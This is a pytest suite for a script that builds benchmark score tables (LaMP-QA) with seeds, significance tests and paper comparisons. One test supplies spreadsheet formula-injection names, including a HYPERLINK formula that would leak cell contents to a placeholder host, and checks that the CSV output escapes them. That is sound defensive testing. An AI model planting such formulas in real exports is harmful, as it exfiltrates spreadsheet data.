"""make_table.py on hand-written score files."""

import csv
import hashlib
import io
import json
import math
import re
from pathlib import Path
from statistics import stdev

import pytest

from utils.base.errors import UserError
from utils.benchmarks.lampqa.task import CATEGORIES
from utils.make_table import build_parser, main
from utils.tables.score_table import Row, best_of

ROOT = Path(__file__).resolve().parents[2]
ARTS, LIFESTYLE, SOCIETY = CATEGORIES
COLUMNS = ["System", *CATEGORIES, "Average (macro)", "Questions", "Unanswered", "Unscored aspects"]
JUDGED = {
    "strategy": "aspect", "judge": "judge@1", "prompt": {"aspect_judge": "ab12"}, "temperature": 0.0, "top_p": 0.95,
    "max_tokens": 512, "constrained_decoding": "fallback", "dtype": "auto",
}  # fmt: skip


def question(question_id, category, *aspect_scores, **more):
    """Return an entry like those of evaluate_responses.py, with a score computed independently of the tested code."""
    score = None
    if aspect_scores and None not in aspect_scores:
        score = sum(aspect_scores) / 2 / len(aspect_scores)
    details = [{"aspect": f"aspect {i}", "score": s} for i, s in enumerate(aspect_scores)]
    entry = {"id": question_id, "category": category, "question_sha256": f"hash of {question_id}", "answered": True}
    return {**entry, "score": score, "details": details, **more}


@pytest.fixture
def score_file(tmp_path):
    """Write a score file, and its manifest unless `judged` is None."""

    def write(name, *questions, judged=JUDGED, answers=None, **more):
        path = tmp_path / name
        content = {"score": 0.5, "num_unanswered": 0, "per_question_scores": questions, **more}
        path.write_text(json.dumps(content), encoding="utf-8")
        if judged is not None:
            manifest = {"settings": judged, "output_sha256": hashlib.sha256(path.read_bytes()).hexdigest()}
            manifest |= {"answers": [answers]} if answers else {}
            path.with_name(f"{name}.manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
        return str(path)

    return write


@pytest.fixture
def complete(score_file):
    """One file with one question per category: 3/4, 1/2 and 0, macro average 1.25/3."""
    return score_file("a.json", question("1", "rpg", 2, 1), question("2", "diy", 1), question("3", "law", 0))


AS_ZERO = "--unscored_as_zero"
QUARTERS = {0.0: (0, 0), 0.25: (1, 0), 0.5: (1, 1), 0.75: (2, 1), 1.0: (2, 2), None: (2, None)}


def scored(community, *scores):
    """Return one question per score, with two aspects."""
    return [question(f"{community}{i}", community, *QUARTERS[score]) for i, score in enumerate(scores)]


@pytest.fixture
def three(score_file):
    """Write score files of three categories with these scores."""

    def write(name, arts, lifestyle, society, **more):
        return score_file(name, *scored("rpg", *arts), *scored("diy", *lifestyle), *scored("law", *society), **more)

    return write


def systems_of(files):
    return [word for name, file in files.items() for word in ("--system", name, file)]


def table(capsys, *arguments):
    """Run it; return each row's cells in the first table by name, and the lines below the table."""
    assert main([str(argument) for argument in arguments]) == 0
    lines = capsys.readouterr().out.splitlines()
    end = lines.index("") if "" in lines else len(lines)
    rows = [line.strip("| ").split(" | ") for line in lines[2:end]]
    return {name: cells for name, *cells in rows}, lines[end + 1 :]


def csv_table(capsys, *arguments):
    """Return the rows of the CSV, and the notes."""
    main([*map(str, arguments), "--format", "csv"])
    captured = capsys.readouterr()
    return list(csv.DictReader(io.StringIO(captured.out))), captured.err


def refusal(*arguments):
    with pytest.raises(UserError) as error:
        main([str(argument) for argument in arguments])
    return str(error.value)


def test_seeds_become_their_mean_and_sample_deviation(score_file, capsys):
    """Scores by hand: 1/4, 2/4 and 4/4 have the mean 7/12 and the sample deviation sqrt(7/48)."""
    files = [score_file(f"{i}.json", *scored("rpg", score)) for i, score in enumerate((0.25, 0.5, 1.0))]
    rows = systems_of({f"M, seed {i}": file for i, file in enumerate(files)})
    main([*rows, "--seeds", "M", *(f"M, seed {i}" for i in range(3))])
    second = capsys.readouterr().out.partition("\n| Over seeds | ")[2]
    assert second.splitlines()[2] == f"| M | {7 / 12:.4f} ± {math.sqrt(7 / 48):.4f} | – | – | – | 3 |"
    lines, _ = csv_table(capsys, *rows, "--seeds", "M", *(f"M, seed {i}" for i in range(3)))
    figures = [lines[-1][f"{ARTS}{what}"] for what in ("", ": standard deviation over seeds")]
    assert list(map(float, figures)) == pytest.approx([7 / 12, math.sqrt(7 / 48)])
    assert "--seeds 'M': no --system has the name 'other'" in refusal(*rows, "--seeds", "M", "other", "M, seed 0")
    assert "--seeds 'M': needs two or more different rows" in refusal(*rows, "--seeds", "M", "M, seed 0")
    twice = "--seeds 'M': needs two or more different rows"
    assert refusal(*rows, "--seeds", "M", "M, seed 0", "M, seed 1", "M, seed 0") == twice


class TestNumbers:
    def test_files_are_pooled_and_grouped_by_community(self, score_file, capsys):
        first = score_file("1.json", question("a", "music", 2, 2), question("b", "pets", 1, 0, 1))
        second = score_file("2.json", question("c", "anime", 0, 1), question("d", "history", 1))
        places = zip("abcd", ("music", "pets", "anime", "history"), strict=True)
        third = score_file("3.json", *(question(i, community, 2) for i, community in places))
        assert main(["--system", "RAG", first, second, "--system", "Gold plans", third]) == 0
        assert capsys.readouterr().out.splitlines()[:4] == [
            f"| {' | '.join(COLUMNS)} |",
            "|:---|---:|---:|---:|---:|---:|---:|---:|",
            # Arts (1 + 1/4) / 2, Lifestyle 2/6, Society 1/2, macro (0.625 + 0.3333 + 0.5) / 3
            "| RAG | 0.6250 | 0.3333 | 0.5000 | 0.4861 | 4 | 0 | 0 |",
            "| Gold plans | **1.0000** | **1.0000** | **1.0000** | **1.0000** | 4 | 0 | 0 |",
        ]

    @pytest.mark.parametrize(
        ("flags", "mean", "rule"),
        [([], "1.0000", "these questions are left out of its means"), ([AS_ZERO], "0.6875", "they count 0")],
    )
    def test_an_unscored_question_is_left_out_or_counts_zero(self, score_file, capsys, flags, mean, rule):
        path = score_file("a.json", question("1", "rpg", 2), question("2", "rpg", 2, None, None, 1))
        rows, notes = table(capsys, "--system", "RAG", path, *flags)
        assert rows["RAG"] == [mean, "–", "–", "–", "2", "0", "2"]
        assert notes == [f"- RAG: 2 aspects without a verdict, in 1 question; {rule}."]


class TestNotes:
    @pytest.mark.parametrize(
        ("questions", "more", "cells", "expected"),
        [
            (scored("rpg", 1.0, 0.5), {}, ["0.7500", "2", "0"], []),
            ([question("7", "rpg", 2), question("8", "rpg", 0, answered=False)], {"num_unanswered": 1},
             ["0.5000", "2", "1"], ["- RAG: 1 question without an answer, which counts 0."]),
            ([question("1", "rpg", 2), question("7", "rpg")], {}, ["1.0000", "1", "0"],
             ["- RAG: 1 question without aspects, not scored: 7."]),
            ([question("1", "rpg", 2)], {"partial": {"num_missing": 3}}, ["1.0000", "1", "0"],
             ["- RAG: partly scored in {path}."]),
        ],
    )  # fmt: skip
    def test_only_missing_values_are_named(self, score_file, capsys, questions, more, cells, expected):
        path = score_file("a.json", *questions, **more)
        rows, notes = table(capsys, "--system", "RAG", path)
        assert rows["RAG"] == [cells[0], "–", "–", "–", *cells[1:], "0"]
        assert notes == [note.format(path=path) for note in expected]


def test_a_row_that_learnt_from_the_tables_judge_says_so(three, capsys):
    answers = {"prompt": {}, "constrained_decoding": "auto", "rewarded_by": [JUDGED["judge"]]}
    ours, other = (three(f"{name}.json", *[BASE] * 3, answers=answers | more) for name, more in
                   (("a", {}), ("b", {"rewarded_by": ["another judge"]})))  # fmt: skip
    _, notes = table(capsys, "--system", "Ours", ours, "--system", "Other", other)
    said = "chosen by scores of the same judge that scores it here"
    assert [note for note in notes if said in note] == [
        "- Ours: trained or chosen by scores of the same judge that scores it here, so it may be overrated."
    ]


def test_published_rows_are_marked_and_never_best(three, capsys):
    file = three("a.json", *[BASE] * 3)
    words = ["--system", "Ours", file, "--system", "RAG", three("b.json", *[BETTER] * 3)]
    typed = ["--published", "Theirs", ".9", "-", "0.95", "1"]
    rows, notes = table(capsys, *words, *typed)
    assert rows["Theirs (typed)"] == [".9", "–", "0.95", "1", "–", "–", "–"] and rows["RAG"][0] == "**0.6667**"
    assert "- Typed by hand, not computed here: Theirs." in notes
    paper = ["--paper", "Qwen 2.5 7B", "--published", "PlanPers"]
    rows, _ = table(capsys, *words[:3], *paper, "--published", "Theirs", "1", "1", "1", "1")
    assert rows["PlanPers (paper)"] == ["0.3518†", "0.4818†", "0.5240†", "0.4525†", "–", "–", "–"]
    lines, _ = csv_table(capsys, *words, *typed)
    assert (lines[-1]["System"], lines[-1][ARTS], lines[-1]["Questions"]) == ("Theirs (typed)", "0.9", "")


@pytest.mark.parametrize(
    ("flags", "told"),
    [
        (["Theirs", "1", "2"], "--published 'Theirs': 2 scores for 4 columns: Arts & Entertainment, "),
        (["Theirs", "1", "2", "3", "x"], "--published 'Theirs': 'x' is not a number"),
        (["Theirs"], "--published 'Theirs': needs one score per column: "),
        (["Ours", "1", "1", "1", "1"], "--published 'Ours': another row has this name"),
        (["Theirs", "--paper", "Qwen 2.5 7B"], "--paper: no --system has the name of a method in the paper"),
        (["PlanPrs", "--paper", "Qwen 2.5 7B", "--published", "PlanPers"], "--published 'PlanPrs': the paper has no"),
    ],
)
def test_published_rows_that_are_refused(three, flags, told):
    assert refusal("--system", "Ours", three("a.json", *[BASE] * 3), "--published", *flags).startswith(told)


def test_seeds_are_tested_by_each_questions_mean(three, capsys):
    """B's means over two seeds are better by 1/2, 1/2 and 1/4 (`P_OF_THREE`), and neither of its seeds is."""
    seeds = [(1.0, 0.5, 0.5), (0.5, 1.0, 0.5)]
    files = {f"A{i}": three(f"A{i}.json", *[BASE] * 3) for i in range(2)}
    files |= {f"B{i}": three(f"B{i}.json", *[values] * 3) for i, values in enumerate(seeds)}
    words = [*systems_of(files), "--baseline", "A0", "A1", "--seeds", "A", "A0", "A1", "--seeds", "B", "B0", "B1"]
    main(words)
    first, _, second = capsys.readouterr().out.partition("| Over seeds | ")
    assert all(f"| B{i} | **0.6667** | **0.6667** | **0.6667** | " in first for i in range(2))
    assert "| A | 0.2500 ± 0.0000 | " in second
    assert "| B | 0.6667 ± 0.0000† | 0.6667 ± 0.0000† | 0.6667 ± 0.0000† | 0.6667 ± 0.0000† | 2 |" in second
    assert "Tests here compare each question's mean over a method's seeds; those above compare single seeds." in second
    assert "†: better than A (two-sided paired t-test, p < 0.05, not corrected for 4 comparisons)." in second
    lines, notes = csv_table(capsys, *words)
    assert [(line["System"], line["Seeds"]) for line in lines[-2:]] == [("A", "2"), ("B", "2")]
    assert [line["Seeds"] for line in lines[:-2]] == [""] * 4
    of_seeds = {name.removeprefix("Average (macro)"): value for name, value in lines[-1].items() if value}
    assert float(of_seeds[""]) == pytest.approx(2 / 3)
    assert float(of_seeds[": standard deviation over seeds"]) == pytest.approx(0, abs=1e-9)
    assert float(lines[-1][f"{ARTS}: t-test p against A"]) == pytest.approx(P_OF_THREE)
    assert "over a method's n seeds." in notes and notes.count("t-test p") == 2 and "†" not in notes
    # With --intervals, the difference of the seeds' means has an interval, both p-values and an effect size.
    main([*words, "--intervals"])
    line = next(line for line in capsys.readouterr().out.splitlines() if line.startswith(f"| B | A | {ARTS}"))
    difference, interval, p, permutation, effect, pairs = line.strip("| ").split(" | ")[3:]
    assert (difference, interval, pairs) == ("+0.4167", "[+0.2500, +0.5000]", "3")
    assert (float(p), float(permutation)) == (pytest.approx(P_OF_THREE, abs=1e-4), 0.25)
    assert float(effect) == pytest.approx(5 / 12 / stdev([0.5, 0.5, 0.25]), abs=0.01)
    main([*words[:14], *words[15:]])  # a method is not compared with its own row
    third = capsys.readouterr().out.partition("| Over seeds | ")[2]
    assert "| A | 0.2500 ± 0.0000 | " in third and "†: better than A (" in third and "for 4 comparisons" in third
    main([*words, "--holm"])  # three or four times the p-value of 0.0377 in a group
    assert "| B | 0.6667 ± 0.0000 | 0.6667 ± 0.0000 | 0.6667 ± 0.0000 | " in capsys.readouterr().out


def test_means_of_partly_scored_systems_are_over_the_common_questions(score_file, capsys):
    """Alone, A would have 2/3 and B 1/2; over the two questions that both have, A has 1/2."""
    scores = {"A": (1.0, 0.0, 1.0), "B": (0.5, 0.5)}
    files = {name: score_file(f"{name}.json", *scored("rpg", *its)) for name, its in scores.items()}
    rows, notes = table(capsys, *systems_of(files), "--allow_partial")
    assert [rows[name][0] for name in "AB"] == ["0.5000"] * 2 and [rows[name][-3] for name in "AB"] == ["2", "2"]
    assert notes == ["- Means are over the 2 questions scored for all systems: B lacks 1 of 3."]
    other = score_file("c.json", question("9", "rpg", 2))
    _, notes = table(capsys, "--system", "A", files["A"], "--system", "C", other, "--allow_partial")
    assert "- Warning: no question was scored for all systems, so their numbers are not comparable: " in notes[0]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A2)', "@SUM(1)", "+1", " -1+cmd", " =1"])
def test_a_spreadsheet_runs_no_name_of_the_csv(name, score_file, capsys):
    """A system's name, and a category's, which may be somebody else's text."""
    path = score_file("a.json", *scored(name, 1.0), *scored("ice", 0.5))
    main(["--system", name, path, "--format", "csv"])
    head, row = csv.reader(io.StringIO(capsys.readouterr().out))
    assert row[0] == f"'{name.strip()}" and f"'{name.strip()}" in head and float(row[head.index("ice")]) == 0.5


class TestOwnGroups:
    """Categories that LaMP-QA does not have are columns of their own, and all questions together are the last one."""

    def test_they_follow_the_papers(self, score_file, capsys):
        """Means by hand: 3/4, 1/2 and 1/4, macro 1.5/3; all 1.0 + 0.5 + 0.5 + 0.25 + 0 + 0 of 6."""
        own = [question("3", "ships", 1), question("4", "ice", 1, 0), question("5", None, 0), question("6", ["rpg"], 0)]
        path = score_file("a.json", *own, *scored("rpg", 1.0, 0.5))
        main(["--system", "RAG", path])
        head, _, row, *notes = capsys.readouterr().out.splitlines()
        columns = [ARTS, "ships", "ice", "Average (macro)", "All questions"]
        assert head == f"| {' | '.join(['System', *columns, *COLUMNS[-3:]])} |"
        assert row == "| RAG | 0.7500 | 0.5000 | 0.2500 | 0.5000 | 0.3750 | 6 | 0 | 0 |"
        assert notes == ["", "- 2 questions without a category, only in the column All questions."]

    def test_without_categories_there_is_one_column(self, score_file, capsys):
        scores = {"A": BASE, "B": BETTER}
        files = {name: score_file(f"{name}.json", *scored(None, *values)) for name, values in scores.items()}
        rows, notes = table(capsys, *systems_of(files), "--baseline", "A")
        assert rows == {"A": ["0.2500", "3", "0", "0"], "B": ["**0.6667**†", "3", "0", "0"]}
        assert notes == ["- †: better than A (two-sided paired t-test, p < 0.05, not corrected for 1 comparison)."]
        main([*systems_of(files), "--format", "csv"])
        assert capsys.readouterr().out.startswith("System,All questions,Questions,")

    @pytest.mark.parametrize("name", ["All questions", "Average (macro)", "System", "Questions", "Unscored aspects"])
    def test_a_name_of_another_column_is_refused(self, name, score_file):
        """In every format: the CSV would lose one of the two."""
        path = score_file("a.json", *scored(name, 1.0, 0.5), *scored("ice", 0.0))
        problem = f"the category {name!r} has the same name as a column of the table; rename it: --groups"
        for form in ("markdown", "latex", "csv"):
            assert refusal("--system", "A", path, "--format", form) == f'{problem} "NEW NAME={name}"'
        main(["--system", "A", path, "--groups", f"general={name}"])

    def test_a_name_of_a_column_that_only_a_comparison_has(self, score_file):
        name = "ice: t-test p against B"
        paths = [score_file(f"{i}.json", *scored(name, 1.0, 0.5), *scored("ice", 0.0, i)) for i in (0, 1)]
        systems = ["--system", "A", paths[0], "--system", "B", paths[1], "--format", "csv"]
        main(systems)
        assert refusal(*systems, "--baseline", "B").startswith(f"the category {name!r} has the same name as")

    def test_they_can_be_joined(self, score_file, capsys):
        path = score_file("a.json", *scored("ships", 1.0, 0.5), *scored("ice", 0.0), *scored("law", 0.75, 0.25))
        main(["--system", "RAG", path, "--groups", "Far north=ice, ships"])
        head, _, row = capsys.readouterr().out.splitlines()
        assert head.startswith(f"| System | {SOCIETY} | Far north | Average (macro) | All questions | Questions |")
        assert row.startswith("| RAG | 0.5000 | 0.5000 | 0.5000 | 0.5000 | 5 |")
        main(["--system", "RAG", path, "--groups", f"{ARTS}=ice,ships"])  # with a name of the paper
        head, _, row = capsys.readouterr().out.splitlines()
        assert head.startswith(f"| System | {ARTS} | {SOCIETY} | Average (macro) | All questions | Questions |")
        assert row.startswith("| RAG | 0.5000 | 0.5000 | 0.5000 | 0.5000 | 5 |")
        with pytest.raises(SystemExit):
            main(["--system", "RAG", path, "--groups", "North=ice", "--paper", "Qwen 2.5 7B"])
        assert "--groups: has no effect with --paper, whose columns are the paper's" in capsys.readouterr().err
        for groups, message in (
            (
                ["North=ice,snow"],
                "--groups: no question has the community 'snow'; the communities are 'ships', 'ice', 'law'",
            ),
            (["North=ice", "South=ice"], "--groups: 'ice' is in North and in South; use it once"),
        ):
            assert refusal("--system", "RAG", path, "--groups", *groups) == message


class TestJudges:
    """All score files of a table must have the same judge, according to their manifests."""

    def test_a_file_with_an_unknown_judge_is_named(self, complete, three, capsys):
        unknown = three("b.json", [1.0], [1.0], [1.0])
        Path(unknown).write_text(Path(unknown).read_text() + " ")
        _, notes = table(capsys, "--system", "None", complete, "--system", "RAG", unknown, "--allow_partial")
        assert notes[-1] == f"- Judge and prompt unknown: {unknown} (no manifest, or changed since)."

    @pytest.mark.parametrize(("setting", "value"), [("judge", "judge@2"), ("temperature", 0.7), ("dtype", "float16")])
    def test_differing_judge_settings_are_refused(self, complete, score_file, setting, value):
        unknown = score_file("b.json", question("1", "rpg", 2), judged=None)
        other = score_file("c.json", question("9", "rpg", 2), judged=JUDGED | {setting: value})
        assert refusal("--system", "A", unknown, "--system", "B", complete, "--system", "C", other) == (
            f"{other}: judged differently from {complete}\n  {setting} {value!r}, not {JUDGED[setting]!r}\n"
            "  these scores are not comparable: judge both in the same way, or do not compare them"
        )
        assert other in refusal("--system", "A", complete, other)  # of one system too

    def test_other_narratives_or_aspects_under_the_same_ids_are_refused(self, complete, score_file):
        for other in ({"question_sha256": "other"}, {"category": "law"}, {"cluster": "Ann"}):
            entries = question("1", "rpg", 2), question("2", "diy", 1) | other, question("3", "law", 0)
            said = refusal("--system", "A", complete, "--system", "B", score_file("b.json", *entries))
            assert f"has different questions from {complete} with the same ids: '2'\n" in said


class TestBold:
    @pytest.mark.parametrize(
        ("means", "is_error", "best"),
        [
            ({"A": 0.50004, "B": 0.49996, "C": 0.49994}, False, {"A", "B"}),  # as shown 0.5000, 0.5000, 0.4999
            ({"A": 12.25, "B": 8.55}, True, {"B"}),  # numbers, not texts
            ({"A": 0.5, "B": None}, False, set()),
            ({"A": 0.0, "B": 0.0}, False, set()),
        ],
    )
    def test_the_best_is_chosen_among_numbers_as_shown(self, means, is_error, best):
        assert best_of([Row(name, {"x": mean}, {}, name, "") for name, mean in means.items()], "x", is_error) == best


# Three questions with the differences 1/2, 1/2, 1/4: mean 5/12, deviations 1/12, 1/12, -1/6, variance (1/144 + 1/144
# + 1/36) / 2 = 1/48, standard error sqrt(1/48 / 3) = 1/12, t = 5 with 2 degrees of freedom, for which
# p = 1 - t / sqrt(2 + t * t).
P_OF_THREE = 1 - 5 / math.sqrt(27)  # 0.0377

BASE = (0.25, 0.25, 0.25)
BETTER = (0.75, 0.75, 0.5)  # by 1/2, 1/2, 1/4
UNSURE = (0.75, 0.25, 0.5)  # by 1/2, 0, 1/4: mean 1/4, variance 1/16, t = sqrt(3), p = 1 - sqrt(3 / 5) = 0.2254


@pytest.fixture
def against(three):
    """Return the flags that compare Ours with RAG, from their scores in the three categories."""

    def flags(rag, ours):
        files = {"RAG": three("rag.json", *rag), "Ours": three("ours.json", *ours)}
        return [*systems_of(files), "--baseline", "RAG"]

    return flags


def test_selected_responses_are_marked_and_never_the_best(three, against, capsys):
    best = three("c.json", *[BETTER] * 3, num_selected=9, num_truncated=2)
    words = [*against([BASE] * 3, [UNSURE] * 3), "--system", "Best of 4", best]
    rows, notes = table(capsys, *words)
    assert rows["Best of 4 (selected by score)"][:4] == ["0.6667"] * 4 and rows["Ours"][0] == "**0.5000**"
    assert "- Best of 4: selected by score; it has neither bold nor daggers." in notes
    assert "- Best of 4: 2 answers cut off at --max_tokens, scored like complete ones." in notes
    cells, _ = csv_table(capsys, *words)
    excluded = {row["System"]: row["Excluded"] for row in cells}
    assert excluded == {"RAG": "", "Ours": "", "Best of 4": "selected by score"}


def selected_by(strategy="aspect", which="best", judge="judge@1"):
    named = {"judge": "judge", "identity": judge}  # another server may have another model by this name
    return {"selected_by": {"strategy": strategy, "which": which, **named, "samples": 4, "saw": ["narrative"]}}


@pytest.mark.parametrize(
    ("origin", "excluded"),
    [
        ({"saw": {"when": "test", "fields": ["rubric_aspects"]}}, "upper bound, sees rubric_aspects"),
        ({"saw": {"when": "training", "fields": ["rubric_aspects"]}}, ""),
        (selected_by(), "upper bound, best by aspect"),
        (selected_by(which="worst"), "lower bound, worst by aspect"),
        (selected_by("direct"), "best by direct"),  # whose judge does not see the aspects
        (selected_by("aspect, probability"), "best by aspect, probability"),
        (selected_by(judge="another"), "best by aspect, another judge"),
    ],
)
def test_what_is_not_an_ordinary_system_is_named_wherever_it_is_shown(origin, excluded, three, against, capsys):
    """It is the best by a mile, and has bold and daggers only if it is an ordinary system."""
    words = [*against([BASE] * 3, [UNSURE] * 3), "--intervals"]
    words += ["--system", "Other", three("c.json", *[BETTER] * 3, answers={"prompt": {}, **origin})]
    label = f"Other ({excluded})" if excluded else "Other"
    main(words)
    printed = capsys.readouterr().out
    [row, compared] = [line for line in printed.splitlines() if f"| {label} | " in line and line.count("0.") > 2][:2]
    assert (row.count("†"), row.count("**")) == ((0, 0) if excluded else (4, 8))
    assert compared.startswith(f"| {label} | RAG | {ARTS} | ")
    assert (f"- Other: {excluded}; it has neither bold nor daggers." in printed) == bool(excluded)
    number = 4 if excluded else 8
    assert f"better than RAG (two-sided paired t-test, p < 0.05, not corrected for {number} comparisons)" in printed
    assert [row.get("Excluded", "") for row in csv_table(capsys, *words)[0]] == ["", "", excluded]
    main([*words, "--holm"])  # what can have no dagger does not make the others' p-values larger
    assert f"Holm's correction over {number} comparisons" in capsys.readouterr().out
    corrected = csv_table(capsys, *words, "--holm")[0][2][f"{ARTS}: t-test p (Holm) against RAG"]
    assert (corrected == "") == bool(excluded)
    seeds = ["--seeds", "M", "Ours", "Other"]
    if excluded:
        assert f"--seeds 'M': Ours, {label}: only some of these rows are comparable" in refusal(*words, *seeds)
        both = ["--system", "Again", three("d.json", *[UNSURE] * 3, answers={"prompt": {}, **origin})]
        main([*words, *both, "--seeds", "M", "Other", "Again"])
        assert f"| M ({excluded}) | " in capsys.readouterr().out
    else:
        main([*words, *seeds])


def test_a_significant_upper_bound_is_not_denied(three, against, capsys):
    """The best row is a bound, with p far below 0.05; the ordinary system is worse than the baseline."""
    words = against([UNSURE] * 3, [BASE] * 3)
    saw = {"saw": {"when": "test", "fields": ["rubric_aspects"]}}
    bound = ["--system", "Bound", three("c.json", *[BETTER] * 3, answers={"prompt": {}, **saw})]
    main([*words, *bound])
    printed = capsys.readouterr().out
    assert "- No ordinary system is better than RAG (" in printed and "No system is better" not in printed
    main(words)
    assert "- No system is better than RAG (" in capsys.readouterr().out
    main([*words[:3], *bound, "--baseline", "RAG"])
    assert "better than RAG" not in capsys.readouterr().out  # no comparison can have a dagger


def test_sign_flips_that_were_all_tried_are_not_called_10000(three, capsys):
    """Of 3 differences, 2 are not 0 in each category: 4 flips there and 64 for the average."""
    files = {"RAG": three("rag.json", *[BASE] * 3), "Ours": three("ours.json", *[UNSURE] * 3)}
    main([*systems_of(files), "--baseline", "RAG", "--intervals"])
    notes = capsys.readouterr().out
    files = {"D": three("D.json", BASE, [1.0], []), "E": three("E.json", BASE, [0.5], [])}
    main([*systems_of(files), "--baseline", "D", "--intervals"])
    told = f"- E and D, {ARTS}; E and D, {LIFESTYLE}: p of the permutation test is 1, so no"  # others have no p
    assert told in capsys.readouterr().out
    few = "; ".join(f"Ours and RAG, {group}" for group in CATEGORIES)
    assert "Permutation test: all sign flips, two-sided." in notes and "10,000" not in notes
    assert f"- {few}: p of the permutation test is at least 0.5000, so no difference can be significant." in notes
    many = [0.25, 0.5] * 10
    files = {name: three(f"{name}.json", values, *[BASE] * 2) for name, values in (("B", many), ("C", [0.75] * 20))}
    main([*systems_of(files), "--baseline", "B", "--intervals"])
    notes = capsys.readouterr().out
    assert "Permutation test: 10,000 sign flips (all, if there are fewer), two-sided." in notes
    assert f"C and B, {LIFESTYLE}; C and B, {SOCIETY}: p of the permutation test is 1, so no" in notes


@pytest.mark.parametrize(("count", "name"), [(9, "Ours (100% without a plan)"), (1, "Ours (11% without a plan)")])
def test_many_answers_without_a_plan_are_in_the_rows_name(three, capsys, count, name):
    ours = three("b.json", *[BASE] * 3, num_without_plan=count)
    words = systems_of({"RAG": three("a.json", *[BASE] * 3), "Ours": ours})
    rows, notes = table(capsys, *words)
    assert name in rows and "RAG" in rows
    number = "9 answers" if count == 9 else "1 answer"
    assert f"- Ours: {number} without a usable plan, made from the posts alone." in notes
    cells, _ = csv_table(capsys, *words)
    assert {row["System"]: row["Without a plan"] for row in cells} == {"RAG": "", "Ours": str(count)}


class TestDaggers:
    def test_holm_corrects_over_the_table(self, three, capsys):
        """Of 0.0001 and three times 0.0377 the first becomes 4 * 0.0001, the others 3 * 0.0377 = 0.113."""
        words = systems_of({" RAG\n10 ": three("a.json", *[BASE] * 3), "Ours": three("b.json", *[BETTER] * 3)})
        rows, notes = table(capsys, *words, "--baseline", "RAG 10")  # names are in one line
        assert rows["Ours"][:4] == ["**0.6667**†"] * 4
        tested = "(two-sided paired t-test, p < 0.05, not corrected for 4 comparisons)."
        assert notes == [f"- †: better than RAG 10 {tested}"]
        rows, _ = table(capsys, *words, "--baseline", "RAG 10", "--holm")
        assert rows["Ours"][:4] == ["**0.6667**"] * 3 + ["**0.6667**†"]

    def test_a_dagger_needs_a_win_over_every_baseline(self, three, capsys):
        scores = {"None": (BASE, BASE, BETTER), "RAG": (BASE, UNSURE, BASE), "A": [BETTER] * 3, "B": [BASE] * 3}
        files = {name: three(f"{name}.json", *by_category) for name, by_category in scores.items()}
        rows, notes = table(capsys, *systems_of(files), "--baseline", "RAG", "None")
        # A in Lifestyle: by 1/2, 1/2, 1/4 over None, but by 0, 1/2, 0 over RAG; in Society it ties with None.
        assert [cell.endswith("†") for cell in rows["A"][:3]] == [True, False, False]
        assert not any("†" in cell for name in ("None", "RAG", "B") for cell in rows[name])
        comparisons = "not corrected for 16 comparisons"  # 2 systems, 2 baselines, 4 columns
        assert notes == [f"- †: better than each of RAG, None (two-sided paired t-test, p < 0.05, {comparisons})."]


class TestIntervals:
    def test_the_second_table_and_its_csv(self, against, capsys):
        scores = (BASE, BASE, (*BASE, None, 0.5, None)), (BETTER, (0.5,) * 3, (*BETTER, 0.5, None, None))
        arguments = [*against(*scores), "--intervals"]
        _, lines = table(capsys, *arguments)
        start = lines.index("") + 3
        # Resampled means of 1/2, 1/2, 1/4 are 1/4 in one of 27 draws, 1/2 in 8 of 27: more than 2.5% each. Of the 8
        # flips of three signs, two give a mean as far from 0; of the 2^9 flips of all, two too. Effect size:
        # 5/12 / sqrt(1/48) = 2.89. Average: (5/12 + 1/4 + 5/12) / 3 = 13/36, t = 13/12 / sqrt(2/144) = 9.19 with
        # (2/144)^2 / (2 / 144^2 / 2) = 4 degrees of freedom: p = 0.0008. Its resampled sums: of the 729 pairs of draws
        # 1 gives 1/4 + 1/4, 12 give 1/4 + 1/3 (1.8% in all), 60 the next larger, (2/3 + 1/4) / 3 = 0.3056 on average.
        assert lines[start : start + 4] == [
            f"| Ours | RAG | {ARTS} | +0.4167 | [+0.2500, +0.5000] | 0.0377 | 0.2500 | +2.89 | 3 |",
            f"| Ours | RAG | {LIFESTYLE} | +0.2500 | [+0.2500, +0.2500] | – | 0.2500 | – | 3 |",
            f"| Ours | RAG | {SOCIETY} | +0.4167 | [+0.2500, +0.5000] | 0.0377 | 0.2500 | +2.89 | 3 |",
            "| Ours | RAG | Average (macro) | +0.3611 | [+0.3056, +0.4167] | 0.0008 | 0.0039 | – | 9 |",
        ]
        note = "- Ours and RAG: 9 paired questions; left out: 1 scored only for Ours, 1 only for RAG, 1 for neither."
        assert lines[-1] == note
        (rag, ours), notes = csv_table(capsys, *arguments, "--holm")
        figures = [ours[f"{ARTS}: {name} against RAG"] for name in ("t-test p", "t-test p (Holm)", "effect size")]
        by_hand = [P_OF_THREE, 2 * P_OF_THREE, 5 / 12 * math.sqrt(48)]
        assert list(map(float, figures)) == pytest.approx(by_hand, abs=1e-12)
        assert ours[f"{ARTS}: difference against RAG"] == "0.416666666667"
        assert ours[f"{ARTS}: permutation p (Holm) against RAG"] == "0.75"
        assert ours[f"{LIFESTYLE}: t-test p against RAG"] == ""
        assert {value for name, value in rag.items() if "against" in name} == {""}
        assert "note: t-test p: two-sided and paired, Holm's correction over 3 comparisons.\n" in notes
        assert "†" not in f"{ours}{notes}"  # numbers alone


class TestPaper:
    def test_the_papers_number_and_the_difference_are_beside_each_cell(self, three, capsys):
        file = three("a.json", BASE, UNSURE, BETTER)
        rows, notes = table(capsys, "--system", "PlanPers", file, "--paper", "Qwen 2.5 7B")
        assert rows["PlanPers"][:4] == [
            "0.2500 (0.3518†, −0.1018)",
            "0.5000 (0.4818†, +0.0182)",
            "0.6667 (0.5240†, +0.1427)",  # 2/3 - 0.5240
            "0.4722 (0.4525†, +0.0197)",  # 17/36 - 0.4525
        ]
        source = "Source: Table 2 (test set), Qwen 2.5 7B, with the paper's daggers."
        beside = "Beside each mean that is also in the paper: the paper's score and the difference from it."
        assert notes[0] == f"- {beside} {source}"
        assert len(notes) == 2  # and the wordings

    def test_only_numbers_that_are_shown_have_notes(self, score_file, capsys):
        """Beside categories of one's own, the paper's average, daggers and misprints of other columns are not shown."""
        file, row = score_file("a.json", *scored("law", 1.0), *scored("ice", 0.5)), "RAG (random profile)"
        rows, notes = table(capsys, "--system", row, file, "--paper", "Qwen 2.5 7B")
        assert rows[row][:4] == ["1.0000 (0.4037, +0.5963)", "0.5000", "0.7500", "0.7500"]
        first = (
            "Beside each mean that is also in the paper: the paper's score and the difference from it. "
            "Source: Table 2 (test set), Qwen 2.5 7B."
        )
